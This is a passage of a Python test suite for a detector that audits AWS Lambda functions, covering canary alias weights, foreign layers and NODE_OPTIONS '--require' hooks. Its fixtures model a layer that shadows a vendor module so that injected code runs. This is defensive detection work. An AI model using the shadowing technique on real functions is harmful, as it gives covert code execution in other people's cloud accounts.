    builder.versions("orders", [function_config("orders", v, code=c) for v, c in codes.items()])
    life = [
        trail_event(
            "UpdateFunctionCode20150331v2",
            {"functionName": "orders"},
            response={"codeSha256": code_sha256(b"v1")},
            identity=ci_identity(day),
            event_id=f"life-{day}",
            time=f"2026-10-{day:02d}T10:00:00Z",
            source_ip="192.0.2.10",
        )
        for day in range(1, 11)
    ]
    upload = trail_event(
        "UpdateFunctionCode20150331v2",
        {"functionName": "orders", "publish": True},
        response={"codeSha256": code_sha256(b"v2")},
        identity=ci_identity(11),
        event_id="v2",
        time="2026-10-11T10:00:00Z",
        source_ip=address,
    )
    builder.trail([*life, upload])
    routing = {"AdditionalVersionWeights": {"2": 0.1}}
    aliases = [
        {
            "AliasArn": ARN + ":live",
            "Name": "live",
            "FunctionVersion": "1",
            "RoutingConfig": routing,
        },
        {"AliasArn": ARN + ":dev", "Name": "dev", "FunctionVersion": "3"},
    ]
    builder.put(
        f"raw/{ACCOUNT}/{REGION}/lambda/functions/orders/aliases.json",
        {"Aliases": aliases},
        "alias",
        "lambda:ListAliases",
        FunctionName="orders",
    )
    [finding] = run_detector(builder, cfg_weighted_alias.DETECTOR)
    assert finding.details["canary"] is canary
    assert finding.severity is (Severity.LOW if canary else Severity.MEDIUM)


def test_hook_env_vendor_require_without_its_extension_stays_documented(
    builder: CaseBuilder,
) -> None:
    # Node finds `handler.js` for `--require …/handler`: Datadog's layer ships the module, so
    # its documented hook is INFO (only a wrapper's path is a file's exact name).
    layer = f"arn:aws:lambda:{REGION}:464622532012:layer:Datadog-Node20-x:112"
    module = "nodejs/node_modules/datadog-lambda-js/handler.js"
    builder.layer(layer, zip_bytes({module: "module.exports = {};\n"}))
    env = {"NODE_OPTIONS": "--require /opt/nodejs/node_modules/datadog-lambda-js/handler"}
    config = function_config("orders", env=env, layers=[layer], runtime="nodejs20.x")
    builder.versions("orders", [config])
    [finding] = run_detector(builder, cfg_hook_env.DETECTOR)
    assert finding.severity is Severity.INFO and finding.details["not_shipped"] == []


@pytest.mark.parametrize(
    ("hook", "vendor_file", "shadow_file"),
    [
        # `…/handler` loads `…/handler.js`: the later layer's copy is the one that runs
        (
            "/opt/nodejs/node_modules/datadog-lambda-js/handler",
            ("Datadog-Node20-x:112", "464622532012", "datadog-lambda-js/handler.js"),
            "datadog-lambda-js/handler.js",
        ),
        # Node tries `newrelic.js` before the folder `newrelic/`: a file beside it wins
        (
            "/opt/nodejs/node_modules/newrelic",
            ("NewRelicNodeJS20X:40", "451483290750", "newrelic/index.js"),
            "newrelic.js",
        ),
    ],
)
def test_hook_env_node_require_is_resolved_as_node_resolves_it(
    builder: CaseBuilder, hook: str, vendor_file: tuple[str, str, str], shadow_file: str
) -> None:
    name, account, file = vendor_file
    vendor = f"arn:aws:lambda:{REGION}:{account}:layer:{name}"
    mine = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:shared-utils:3"
    builder.layer(vendor, zip_bytes({f"nodejs/node_modules/{file}": "module.exports = {};\n"}))
    builder.layer(mine, zip_bytes({f"nodejs/node_modules/{shadow_file}": "require('net');\n"}))
    env = {"NODE_OPTIONS": f"--require {hook}"}
    config = function_config("orders", env=env, layers=[vendor, mine], runtime="nodejs20.x")
    builder.versions("orders", [config])
    [finding] = run_detector(builder, cfg_hook_env.DETECTOR)
    assert finding.severity is Severity.HIGH and finding.details["shadowed_by"] == mine


def test_hook_env_node_require_of_a_folder_loads_the_folder_only(builder: CaseBuilder) -> None:
    # `-r …/datadog-lambda-js/` (Datadog's documented form) loads the folder: Node tries no
    # `datadog-lambda-js.js` for it, so a later layer shipping one replaces nothing.
    vendor = f"arn:aws:lambda:{REGION}:464622532012:layer:Datadog-Node20-x:112"
    mine = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:shared-utils:3"
    package = "nodejs/node_modules/datadog-lambda-js"
    builder.layer(vendor, zip_bytes({f"{package}/index.js": "module.exports = {};\n"}))
    builder.layer(mine, zip_bytes({f"{package}.js": "require('net');\n"}))
    env = {"NODE_OPTIONS": "--require /opt/nodejs/node_modules/datadog-lambda-js/"}
    config = function_config("orders", env=env, layers=[vendor, mine], runtime="nodejs20.x")
    builder.versions("orders", [config])
    [finding] = run_detector(builder, cfg_hook_env.DETECTOR)
    assert finding.severity is Severity.INFO and finding.details["shadowed_by"] is None


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("--require /opt/nodejs/it's/hook.js", "it loads nodejs/it's/hook.js from a layer"),
        ("--require /tmp/it's/x.js", "\"/tmp/it's/x.js\" was not found in the function's layers"),
        ("--require '/tmp/x.js'", "'/tmp/x.js' was not found in the function's layers"),
        # a double-quoted path is one argument to Node, spaces and all
        ('--require "/opt/nodejs/my dir/hook.js"', "it loads nodejs/my dir/hook.js from a layer"),
        ('--require="/opt/nodejs/my dir/hook.js"', "it loads nodejs/my dir/hook.js from a layer"),
    ],
)
def test_hook_env_path_with_a_single_quote_is_shown_whole(
    builder: CaseBuilder, value: str, shown: str
) -> None:
    # Node reads a single quote literally: it is part of the path, not where the path ends.
    layer = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:shared-utils:3"
    hooks = {"nodejs/it's/hook.js": "require('net');\n", "nodejs/my dir/hook.js": "x;\n"}
    builder.layer(layer, zip_bytes(hooks))
    config = function_config(
        "orders", env={"NODE_OPTIONS": value}, layers=[layer], runtime="nodejs20.x"
    )
    builder.versions("orders", [config])
    [finding] = run_detector(builder, cfg_hook_env.DETECTOR)
    assert f"NODE_OPTIONS={value} on orders" in finding.summary
    assert shown in finding.summary


def test_configuration_set_by_a_call_without_a_time_says_the_time_is_unknown(
    builder: CaseBuilder,
) -> None:
    """A version without LastModified is set by its function's last configuration call, here
    one whose record holds no eventTime: the summary says when is unknown, never "at None"."""
    builder.versions("orders", [function_config("orders", layers=[FOREIGN_LAYER], LastModified="")])
    call = trail_event(
        "UpdateFunctionConfiguration20150331v2",
        {"functionName": "orders", "layers": [FOREIGN_LAYER]},
        event_id="lay",
    )
    del call["eventTime"]
    builder.trail([call])
    (layer,) = run_detector(builder, cfg_foreign_layer.DETECTOR)
    assert layer.time is None and "None" not in layer.summary
    assert layer.summary.endswith(
        f" Set by arn:aws:iam::{ACCOUNT}:user/mallory at an unknown time (the event gives none "
        "the index could read)."
    )
